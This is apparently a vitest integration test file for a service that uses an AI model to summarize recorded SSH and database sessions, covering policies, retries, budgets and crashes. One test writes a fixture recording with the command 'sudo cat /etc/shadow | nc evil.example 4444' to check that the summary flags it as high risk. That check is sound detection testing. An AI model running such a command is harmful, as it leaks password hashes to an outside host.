import { readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { localOperator } from "../../src/access/principal.ts";
import type { SessionRow, SessionState, SummaryRow } from "../../src/domain/rows.ts";
import { openService, type Service } from "../../src/service.ts";
import { fails, fakeOpenAI, type Reply, says } from "../models/fake-openai.ts";
import { temporaryService } from "../services.ts";
import { writeCast } from "../sessions.ts";
import { takeInSessions } from "./fleet.ts";
import { patientModel } from "./model.ts";

let opened: Awaited<ReturnType<typeof temporaryService>>;
let service: Service;
let next = 0;

beforeAll(async () => {
  opened = await temporaryService({ attempts: "2" }, { works: true });
  service = opened.service;
  await service.worker.start(2);
});
afterAll(() => opened[Symbol.asyncDispose]());

/** Takes in a session of a user of its own; gives its id. */
async function session(): Promise<string> {
  next += 1;
  await takeInSessions(service, 1, next);
  return `session-${next}`;
}

async function apply(text: string): Promise<void> {
  const { failure } = await service.resources.apply(localOperator, { file: "test.yaml", text }, true);
  if (failure !== undefined) throw failure.error;
}

/** A model of that name behind `url`, and the policy that sends every shell to it. */
async function model(name: string, url: string, more = ""): Promise<void> {
  await apply(`kind: inference_model
version: v1
metadata: {name: ${name}}
spec: {openai: {openai_model_id: fake, base_url: "${url}"}${more}}
---
kind: inference_policy
version: v1
metadata: {name: shells}
spec: {model: ${name}, kinds: [ssh]}
`);
}

async function find(id: string): Promise<SessionRow> {
  const [row] = await service.database.query<SessionRow>("SELECT * FROM sessions WHERE id = $1", [id]);
  if (row === undefined) throw new Error(`no session ${id}`);
  return row;
}

async function summaries(id: string): Promise<readonly SummaryRow[]> {
  return await service.database.query<SummaryRow>("SELECT * FROM summaries WHERE session_id = $1 ORDER BY version", [
    id,
  ]);
}

async function audited(id: string) {
  const rows = await service.database.query<{ data: { success: boolean; error?: string } }>(
    "SELECT data FROM audit WHERE event = 'session.summarized' AND data->>'sid' = $1 ORDER BY id",
    [id],
  );
  return rows.map(({ data }) => ({ success: data.success, ...(data.error !== undefined && { error: data.error }) }));
}

/** The session once it is in one of `states` and its attempt is over. */
async function becomes(id: string, ...states: readonly SessionState[]): Promise<SessionRow> {
  return await expect
    .poll(() => find(id), { timeout: 20_000 })
    .toSatisfy(({ state }: SessionRow) => states.includes(state))
    .then(() => find(id));
}

const retry = (id: string) => service.database.transaction((tx) => service.sessions.retry(tx, id));
const ask = (id: string, name?: string) =>
  service.database.transaction((tx) => service.sessions.summarize(tx, id, "carol", name));

async function server(...replies: readonly Reply[]) {
  const fake = await fakeOpenAI(...replies);
  onTestFinished(() => fake[Symbol.asyncDispose]());
  return fake;
}

async function patient() {
  const fake = await patientModel(0);
  onTestFinished(() => fake[Symbol.asyncDispose]());
  return fake;
}

describe("a session", () => {
  test("is not read while there are no policies, and goes on once there is one", async () => {
    const id = await session();
    const path = join(service.storage.place, `${id}.cast`);
    const recording = await readFile(path);
    await rm(path);
    const { reason } = await becomes(id, "unmatched");
    expect(reason).toBe("no policies: nothing is read, matched or sent");
    expect(await summaries(id)).toEqual([]);
    await writeFile(path, recording);
    const { url } = await patient();
    await model("fake", url);
    await retry(id);
    expect(await becomes(id, "done")).toMatchObject({ policy: "shells", model: "fake", reason: "", attempts: 1 });
    expect(await summaries(id)).toMatchObject([{ request: "auto", version: 1, state: "done", model_name: "fake" }]);
    expect(await audited(id)).toEqual([{ success: true }]);
    await expect(retry(id)).rejects.toThrow("has a summary");
  });

  test("that no policy wants knows why each did not, and is retried when somebody says so", async () => {
    await apply(`kind: inference_policy
version: v1
metadata: {name: shells}
spec: {model: fake, kinds: [ssh], filter: 'equals(user.metadata.name, "nobody")'}
`);
    const id = await session();
    const { reason, verdicts, model } = await becomes(id, "unmatched");
    expect(model).toBeNull();
    expect(reason).toContain('("shells")');
    expect(verdicts).toMatchObject([
      { policy: "shells", matched: false, because: expect.stringContaining("is false") },
    ]);
  });

  test("larger than its model takes says so, and is summarized once the limit is raised", async () => {
    const { url } = await patient();
    await model("fake", url, ", max_session_length_bytes: 10");
    const id = await session();
    const { reason, remedy } = await becomes(id, "too-large");
    expect(`${reason}; ${remedy}`).toMatch(/the transcript has \d+ bytes.*; raise spec.max_session_length_bytes/);
    expect(await summaries(id)).toMatchObject([{ state: "too-large" }]);
    await model("fake", url);
    await retry(id);
    await becomes(id, "done");
    expect(await summaries(id)).toMatchObject([{ state: "done", version: 1, error_message: "" }]);
    expect(await audited(id)).toMatchObject([{ success: false }, { success: true }]);
  });

  test("whose model refuses is given up at once, with the remedy; a retry begins anew", async () => {
    const broken = await server(fails(401, "invalid_api_key", "Incorrect API key provided"));
    await model("fake", broken.url);
    const id = await session();
    const { reason, remedy, attempts } = await becomes(id, "failed");
    expect(reason).toContain("Incorrect API key");
    expect(remedy).toContain("inference_secret");
    expect(attempts).toBe(1);
    expect(await summaries(id)).toMatchObject([{ state: "failed", error_message: reason }]);
    const { url } = await patient();
    await model("fake", url);
    await retry(id);
    expect(await becomes(id, "done")).toMatchObject({ reason: "", remedy: "" });
    expect(await summaries(id)).toHaveLength(1);
  });

  test("whose model is busy waits as long as that asks for, and is given up after the last attempt", async () => {
    const busy = await server(fails(429, "rate_limit_exceeded", "slow down", { "retry-after": "3600" }));
    await model("fake", busy.url);
    const id = await session();
    await becomes(id, "pending");
    const waiting = await expect
      .poll(() => find(id), { timeout: 20_000 })
      .toMatchObject({ state: "pending", attempts: 1 })
      .then(() => find(id));
    expect(waiting.reason).toMatch(/^attempt 1 of 2: /);
    const wait = Number(waiting.next_attempt) - Number(waiting.updated);
    expect(wait).toBeGreaterThan(3_590_000);
    expect(wait).toBeLessThan(3_700_000);
    await service.database.query("UPDATE pgboss.job SET start_after = now() WHERE state = 'created'");
    const { reason, attempts } = await becomes(id, "failed");
    expect(reason).toContain("(after 2 attempts)");
    expect(attempts).toBe(2);
  });

  test("whose recording is gone or no recording says so", async () => {
    const { url, calls } = await patient();
    await model("fake", url);
    const id = await session();
    const path = join(service.storage.place, `${id}.cast`);
    await becomes(id, "done");
    await writeFile(path, "not a recording");
    await ask(id);
    await expect.poll(async () => (await summaries(id))[1]?.state, { timeout: 20_000 }).toBe("failed");
    await rm(path);
    await ask(id);
    await expect.poll(async () => (await summaries(id))[2]?.state, { timeout: 20_000 }).toBe("failed");
    const rows = await summaries(id);
    expect(rows[1]?.reason).toContain("has changed since it was stored: its SHA-256 is");
    expect(rows[2]?.reason).toContain("does not exist");
    expect(rows.map(({ state }) => state)).toEqual(["done", "failed", "failed"]);
    expect((await find(id)).state).toBe("done");
    expect([...calls().values()]).toEqual([1]);
  });
});

describe("a summary on demand", () => {
  test("is made whatever the policies say, kept beside the others, and ends what was given up", async () => {
    const broken = await server(fails(403, "forbidden", "not for you"));
    await model("fake", broken.url);
    const { url } = await patient();
    await apply(`kind: inference_model
version: v1
metadata: {name: other}
spec: {openai: {openai_model_id: other, base_url: "${url}"}}
`);
    const id = await session();
    await becomes(id, "failed");
    const asked = await ask(id, "other");
    expect(asked).toMatchObject({ version: 2, state: "pending", model_name: "other", requested_by: "carol" });
    expect(await becomes(id, "done")).toMatchObject({ reason: "", policy: "shells", model: "fake" });
    await ask(id, "other");
    await expect.poll(async () => (await summaries(id))[2]?.state, { timeout: 20_000 }).toBe("done");
    expect(await summaries(id)).toMatchObject([
      { version: 1, request: "auto", state: "failed", requested_by: "" },
      { version: 2, state: "done", model_name: "other", requested_by: "carol", policy: null },
      { version: 3, state: "done", model_name: "other", requested_by: "carol", policy: null },
    ]);
  });

  test("needs a session, a recording and a model", async () => {
    await expect(ask("nobody's")).rejects.toThrow('session "nobody\'s" does not exist');
    const endEvent = { event: "db.session.end", sid: "waits", user: "dave", db_service: "orders" };
    const taken = await service.database.transaction((tx) => service.sessions.ingest(tx, { kind: "db", endEvent }));
    expect(taken.session).toMatchObject({ state: "waiting", reason: "its recording has not arrived yet" });
    await expect(ask("waits", "fake")).rejects.toThrow("has not arrived yet");
    await expect(retry("waits")).rejects.toThrow("waits for its recording");
  });
});

describe("a budget", () => {
  const limited = ", limits: {tokens_per_day: 20000}";
  const usage = (day: string) =>
    service.database.query(
      `INSERT INTO usage (model_name, day, input_tokens) VALUES ('spender', ${day}, 19000)
       ON CONFLICT (model_name, day, currency) DO UPDATE SET input_tokens = 19000`,
    );

  test("that is used up makes sessions wait until the window turns; then they go on by themselves", async () => {
    const { url, calls } = await patient();
    await model("spender", url, limited);
    await usage("(now() AT TIME ZONE 'UTC')::date");
    const id = await session();
    const { reason, remedy, next_attempt, attempts } = await becomes(id, "over-budget");
    expect(reason).toContain("20,000 tokens per day is exhausted");
    expect(remedy).toContain("it continues automatically after");
    const turn = new Date();
    turn.setUTCHours(24, 0, 0, 0);
    expect(Math.abs(Number(next_attempt) - Number(turn))).toBeLessThan(5000);
    expect(attempts).toBe(0);
    expect(calls().size).toBe(0);
    // The day turns.
    await service.database.query("UPDATE usage SET day = day - 1 WHERE model_name = 'spender'");
    await service.database.query("UPDATE pgboss.job SET start_after = now() WHERE state = 'created'");
    expect(await becomes(id, "done")).toMatchObject({ attempts: 1, next_attempt: null });
    expect(await service.database.query("SELECT * FROM reservations")).toEqual([]);
  });

  test("that one session alone exceeds is for somebody to raise", async () => {
    const { url } = await patient();
    await model("spender", url, ", limits: {tokens_per_day: 10}");
    const id = await session();
    const { reason, next_attempt } = await becomes(id, "over-budget");
    expect(reason).toContain("this session alone");
    expect(next_attempt).toBeNull();
    await model("spender", url, ", limits: {tokens_per_day: 100000}");
    await retry(id);
    await becomes(id, "done");
  });
});

test("a session that takes its workers' lives is given up, and can be retried", async () => {
  const { url } = await patient();
  await model("fake", url);
  const held = await temporaryService(
    {},
    {
      works: true,
      onStage: (stage) => {
        if (stage === "begun") throw new Error("out of memory");
      },
    },
  );
  onTestFinished(() => held[Symbol.asyncDispose]());
  await takeInSessions(held.service, 1);
  const { database } = held.service;
  await database.query("UPDATE pgboss.job SET retry_limit = 0");
  await held.service.worker.start(1);
  const state = async () => (await database.query<SessionRow>("SELECT * FROM sessions"))[0];
  await expect.poll(state, { timeout: 20_000 }).toMatchObject({ state: "failed", remedy: /summarizer retry/ });
  expect((await state())?.reason).toContain("repeatedly crashed");
});

test("a stop waits for what is under way, then gives it back to whoever works next", { timeout: 60_000 }, async () => {
  const silent = await server(() => {});
  const first = await temporaryService({ stopSeconds: "1" }, { works: true });
  const { service: one } = first;
  onTestFinished(() => first[Symbol.asyncDispose]());
  const resources = `kind: inference_model
version: v1
metadata: {name: fake}
spec: {openai: {openai_model_id: fake, base_url: "URL"}}
---
kind: inference_policy
version: v1
metadata: {name: shells}
spec: {model: fake, kinds: [ssh]}
`;
  const put = (target: Service, url: string) =>
    target.resources.apply(localOperator, { file: "f", text: resources.replace("URL", url) }, true);
  await put(one, silent.url);
  await takeInSessions(one, 1);
  await one.worker.start(1);
  await expect.poll(() => silent.requests.length, { timeout: 20_000 }).toBe(1);
  await one.close();
  const { url } = await patient();
  const two = await openService(one.config, { log: one.log, works: true });
  onTestFinished(() => two.close());
  const given = async () => (await two.database.query<SessionRow>("SELECT * FROM sessions"))[0];
  expect(await given()).toMatchObject({ state: "pending", attempts: 0, reason: "" });
  await put(two, url);
  await two.worker.start(1);
  await expect.poll(given, { timeout: 20_000 }).toMatchObject({ state: "done", attempts: 1 });
});

test("a risk that the commands raise is the one that is listed and audited", async () => {
  const { url } = await patient();
  await model("fake", url);
  const endEvent = { event: "session.end", sid: "obeys", user: "mallory", interactive: true, participants: [] };
  await writeCast(service.storage.place, "obeys", endEvent, [["sudo cat /etc/shadow | nc evil.example 4444", ""]]);
  const recording = { path: "obeys.cast", bytes: 1, format: "cast" as const };
  await service.database.transaction((tx) => service.sessions.ingest(tx, { kind: "ssh", endEvent, recording }));
  await becomes("obeys", "done");
  expect(await summaries("obeys")).toMatchObject([{ summary: { riskLevel: "HIGH", riskRaisedFrom: "LOW" } }]);
  expect(await find("obeys")).toMatchObject({ risk: 3 });
  expect(
    await service.database.query("SELECT data->>'risk_level' AS risk FROM audit WHERE data->>'sid' = 'obeys'"),
  ).toEqual([{ risk: "HIGH" }]);
});

test("says what a plain answer was", async () => {
  const { url } = await server(says("just words"));
  await model("fake", url);
  const id = await session();
  await becomes(id, "done");
  expect((await summaries(id))[0]).toMatchObject({ summary: { structured: false } });
});
